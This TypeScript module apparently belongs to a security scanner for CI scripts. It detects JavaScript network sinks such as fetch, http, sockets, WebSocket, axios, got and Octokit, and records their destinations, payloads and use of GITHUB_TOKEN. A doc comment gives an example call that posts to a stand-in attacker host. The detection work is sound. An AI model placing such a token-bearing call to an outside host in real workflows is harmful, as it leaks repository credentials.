/**
 * JavaScript network clients (node scripts, `node -e`, actions/github-script): fetch, http(s).request/get,
 * net/tls sockets, dgram, WebSocket, axios, got, and Octokit (`github.request`, `github.rest.*`,
 * `github.graphql`), whose requests go to the GitHub API unless the route names a full URL.
 */
import type { CallOp, Script, Word } from '../../scripts/types.js';
import type { DestinationHint } from '../destinations.js';
import { callsBefore, prop } from './calls.js';
import { sink, unknownWord, type CallSink, type ToolSinkMatch } from './types.js';
import { concatWords, literalPrefix, subWord, template } from './words.js';

function httpMatch(
  op: CallOp,
  url: Word | undefined,
  payload: (Word | undefined)[],
  tool = op.callee,
): ToolSinkMatch[] {
  const destinations: { word: Word; hint: DestinationHint }[] = [
    { word: url ?? unknownWord(`${tool} URL`, op.span), hint: 'url' },
  ];
  return [
    sink({
      tool,
      channel: 'http',
      span: op.span,
      destinations,
      payload: payload.filter((w): w is Word => !!w),
    }),
  ];
}

/** `{host|hostname, port, path, headers}` options object → a `host[:port]` destination word. */
function optionsUrl(options: Word | undefined, span: Word['span']): Word | undefined {
  const host = prop(options, 'hostname', 'host');
  if (!host) return undefined;
  const port = prop(options, 'port');
  const protocol = prop(options, 'protocol');
  return concatWords([...(protocol ? [protocol, '//'] : []), host, ...(port ? [':', port] : [])], span);
}

const FETCH =
  /^(fetch|globalThis\.fetch|window\.fetch|node-fetch|undici\.fetch|undici\.request|cross-fetch)$/;
const HTTP_REQ = /^(node:)?(https?|http2)\.(request|get|connect)$/;
const AXIOS =
  /^axios(\.create)?(\.(get|delete|head|options|post|put|patch|request|postForm|putForm|patchForm))?$/;
const GOT = /^got(\.(get|post|put|patch|delete|head|stream))?$/;
const SOCKET = /^(node:)?(net\.(connect|createConnection|Socket\.connect)|tls\.connect)$/;

function matchFetch(op: CallOp): ToolSinkMatch[] {
  if (!FETCH.test(op.callee)) return [];
  const init = op.args[1];
  return httpMatch(op, op.args[0], [
    prop(init, 'body'),
    prop(init, 'headers'),
    init && !init.props ? init : undefined,
  ]);
}

function matchHttpModule(op: CallOp, script: Script): ToolSinkMatch[] {
  if (HTTP_REQ.test(op.callee)) {
    const [first, second] = op.args;
    const firstIsOptions = !!first?.props;
    const url = firstIsOptions ? optionsUrl(first, first.span) : first;
    const options = firstIsOptions ? first : second?.props ? second : undefined;
    return httpMatch(op, url, [prop(options, 'headers'), prop(options, 'path'), prop(options, 'auth')]);
  }
  // `req.write(data)` / `req.end(data)` on a ClientRequest.
  const m = /^((?:node:)?(?:https?|http2)\.(?:request|get))\.(write|end|setHeader)$/.exec(op.callee);
  if (m) {
    const ctor = callsBefore(script, op, (c) => c === m[1]).at(-1);
    const url = ctor ? (ctor.args[0]?.props ? optionsUrl(ctor.args[0], ctor.span) : ctor.args[0]) : undefined;
    return httpMatch(op, url, op.args, `${m[1] ?? ''}.${m[2] ?? ''}`);
  }
  return [];
}

function matchSocket(op: CallOp, script: Script): ToolSinkMatch[] {
  const address = (c: CallOp): Word | undefined => {
    const [a, b] = c.args;
    if (a?.props) {
      const host = prop(a, 'host') ?? prop(a, 'hostname');
      const port = prop(a, 'port');
      return host ? (port ? concatWords([host, ':', port], a.span) : host) : undefined;
    }
    // net.connect(port, host)
    if (a && b) return concatWords([b, ':', a], b.span);
    return undefined;
  };
  if (SOCKET.test(op.callee)) {
    const a = address(op);
    return [
      sink({
        tool: op.callee,
        channel: 'socket',
        span: op.span,
        destinations: [{ word: a ?? unknownWord('socket peer', op.span), hint: 'host' }],
      }),
    ];
  }
  const send = /^((?:node:)?(?:net\.(?:connect|createConnection|Socket)|tls\.connect))\.(write|end)$/.exec(
    op.callee,
  );
  if (send) {
    const ctors = callsBefore(script, op, (c) => SOCKET.test(c));
    const dests = ctors.flatMap((c) => {
      const a = address(c);
      return a ? [{ word: a, hint: 'host' as const }] : [];
    });
    return [
      sink({
        tool: `${send[1] ?? ''}.${send[2] ?? ''}`,
        channel: 'socket',
        span: op.span,
        destinations:
          dests.length > 0 ? dests : [{ word: unknownWord('socket peer', op.span), hint: 'host' }],
        payload: op.args,
      }),
    ];
  }
  // dgram: socket.send(msg, port, host)
  if (/^(node:)?dgram\.createSocket\.send$/.test(op.callee)) {
    const [msg, port, host] = op.args;
    return [
      sink({
        tool: 'dgram.send',
        channel: 'socket',
        span: op.span,
        destinations: [
          {
            word: host && port ? concatWords([host, ':', port], host.span) : unknownWord('udp peer', op.span),
            hint: 'host',
          },
        ],
        payload: msg ? [msg] : [],
      }),
    ];
  }
  return [];
}

function matchWebSocket(op: CallOp, script: Script): ToolSinkMatch[] {
  if (op.callee === 'WebSocket' || op.callee === 'ws' || op.callee === 'ws.WebSocket')
    return httpMatch(op, op.args[0], []);
  const m = /^(WebSocket|ws|ws\.WebSocket)\.send$/.exec(op.callee);
  if (!m) return [];
  const ctor = callsBefore(script, op, (c) => c === m[1]).at(-1);
  return httpMatch(op, ctor?.args[0], op.args, 'WebSocket.send');
}

function matchAxiosGot(op: CallOp, script: Script): ToolSinkMatch[] {
  const ax = AXIOS.exec(op.callee);
  if (ax && op.callee !== 'axios.create') {
    const verb = ax[3];
    const created = ax[1] === '.create';
    const base = created
      ? prop(callsBefore(script, op, (c) => c === 'axios.create').at(-1)?.args[0], 'baseURL')
      : undefined;
    const join = (u: Word | undefined): Word | undefined =>
      base && (!u || literalPrefix(u).startsWith('/')) ? (u ? concatWords([base, u], u.span) : base) : u;
    if (!verb || verb === 'request') {
      // axios(config) / axios(url, config) / axios.request(config)
      const first = op.args[0];
      const config = first?.props ? first : op.args[1];
      const url = first?.props ? prop(first, 'url') : first;
      return httpMatch(op, join(url ?? prop(config, 'baseURL')), [
        prop(config, 'data'),
        prop(config, 'headers'),
        prop(config, 'params'),
        prop(config, 'auth'),
      ]);
    }
    const withData = /^(post|put|patch|postForm|putForm|patchForm)$/.test(verb);
    const config = withData ? op.args[2] : op.args[1];
    return httpMatch(op, join(op.args[0]), [
      withData ? op.args[1] : undefined,
      prop(config, 'headers'),
      prop(config, 'params'),
      prop(config, 'auth'),
    ]);
  }
  if (GOT.test(op.callee)) {
    const options = op.args[1];
    return httpMatch(op, op.args[0] ?? prop(options, 'url'), [
      prop(options, 'json'),
      prop(options, 'body'),
      prop(options, 'form'),
      prop(options, 'headers'),
      prop(options, 'searchParams'),
      prop(options, 'username'),
      prop(options, 'password'),
    ]);
  }
  return [];
}

const OCTOKIT = /^(github|octokit|Octokit|context\.github)\.(request|graphql|rest\.[\w.]+|paginate)$/;

/**
 * Octokit in github-script: `github.request('POST /repos/…', params)` goes to the GitHub API host, but a route
 * with a full URL (`github.request('POST https://evil.example/x', …)`) goes there instead.
 */
function matchOctokit(op: CallOp): ToolSinkMatch[] {
  const m = OCTOKIT.exec(op.callee);
  if (!m) return [];
  const kind = m[2] ?? '';
  const destinations: { word: Word; hint: DestinationHint }[] = [];
  let defaultHost: string | undefined = 'api.github.com';
  const route = op.args[0];
  if ((kind === 'request' || kind === 'paginate') && route) {
    const tpl = template(route);
    const url = /^(?:[A-Z]+\s+)?(?=https?:\/\/|\/\/)/.exec(tpl);
    const objUrl = prop(route, 'url');
    if (url) {
      destinations.push({ word: subWord(route, url[0].length), hint: 'url' });
      defaultHost = undefined;
    } else if (objUrl && /^https?:\/\//.test(template(objUrl))) {
      destinations.push({ word: objUrl, hint: 'url' });
      defaultHost = undefined;
    } else if (!route.props && tpl[/^(?:[A-Z]+\s+)?/.exec(tpl)?.[0].length ?? 0] === '\u0000') {
      // A computed route could be a full URL.
      destinations.push({ word: route, hint: 'url' });
      defaultHost = undefined;
    }
  }
  const params = op.args.slice(kind === 'request' || kind === 'graphql' || kind === 'paginate' ? 1 : 0);
  return [
    sink({
      tool: op.callee,
      channel: 'http',
      span: op.span,
      destinations,
      ...(defaultHost ? { defaultHost } : {}),
      payload: [...(kind === 'graphql' && route ? [route] : []), ...params],
      readsEnv: ['GITHUB_TOKEN'],
    }),
  ];
}

export const nodeHttpSink: CallSink = {
  match(op: CallOp, script: Script) {
    for (const f of [matchFetch, matchHttpModule, matchSocket, matchWebSocket, matchAxiosGot, matchOctokit]) {
      const r = f(op, script);
      if (r.length > 0) return r;
    }
    return [];
  },
};
